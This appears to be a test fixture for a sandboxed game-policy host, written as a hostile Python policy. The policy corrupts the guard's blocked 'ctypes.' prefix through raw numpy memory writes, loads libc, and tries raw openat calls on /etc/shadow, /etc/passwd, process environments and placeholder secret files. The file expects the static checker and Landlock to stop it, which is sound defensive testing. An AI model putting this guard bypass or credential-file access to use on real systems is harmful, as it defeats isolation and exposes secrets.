"""Takes over its host and opens, with raw openat, the files it wants: the key
file in $HOME, the sessions log, /etc/shadow and /etc/passwd, the parent's and
init's environment.  Answers 1 if any opened: Landlock (and, under bubblewrap,
the mount namespace) must leave it answering 0."""
EXPECT = {
    "tries": "after a takeover: raw openat of secrets outside the installation",
    "static": "invalid",
    "runtime": "ok",
    "message": r"",
    "actions": [0],
}
import numpy as np
import typing


def _raw(address, size):
    """numpy's array interface: `size` bytes of this process at `address`."""
    holder = type("Raw", (), {"__array_interface__": {"data": (address, False), "shape": (size,),
                                                      "typestr": "|u1", "version": 3}})()
    return np.asarray(holder)


def take_over():
    """The guard's "ctypes." prefix rewritten in place: the host's own ctypes
    then makes any system call (a compact str's data follows a 48-byte header)."""
    modules = typing.sys.modules  # <- rejected
    for text in modules["host_guard"]._Guard.ALWAYS_BLOCKED_PREFIXES:
        if text == "ctypes.":
            _raw(id(text) + 48, 7)[0] = 88
    ctypes = modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return ctypes, libc


class Policy:
    def __init__(self, player, game):
        self.ctypes, self.libc = take_over()  # <- rejected

    def act(self, obs):
        libc, ctypes = self.libc, self.ctypes  # <- rejected
        read_any = 0
        for path in ("@@SECRET_FILE@@", "@@SESSION_LOG@@", "/etc/shadow", "/etc/passwd", "/proc/1/environ",
                     "/proc/%d/environ" % libc.getppid()):
            fd = libc.syscall(257, -100, path.encode(), 0, 0)  # openat(AT_FDCWD, path, O_RDONLY)
            if fd >= 0:
                read_any = 1
                libc.syscall(3, fd)
        return obs["legal_actions"][read_any]
